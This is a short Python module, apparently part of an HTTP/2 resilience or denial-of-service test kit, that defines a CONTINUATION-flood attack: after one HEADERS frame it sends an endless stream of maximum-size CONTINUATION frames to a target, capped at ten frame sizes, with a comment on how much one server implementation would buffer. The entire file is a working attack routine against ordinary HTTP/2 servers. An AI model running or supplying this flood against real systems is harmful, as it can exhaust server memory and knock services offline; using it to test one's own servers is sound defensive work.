# SPDX-License-Identifier: Apache-2.0
"""A header that goes on and on in CONTINUATION frames, full ones."""
import time

from lib.flood import headers, request_block
from lib.http2 import CONTINUATION, FRAME_MAX, frame

MOST = 10 * FRAME_MAX  # libh2o alone would take 417 KB


def pieces():
    while True:
        yield frame(CONTINUATION, 0, 1, b"\x82" * FRAME_MAX)
        time.sleep(0.02)  # so that what was sent is what was taken


def attack(target):
    return target.flood(pieces, headers(1, request_block(), 0), MOST)
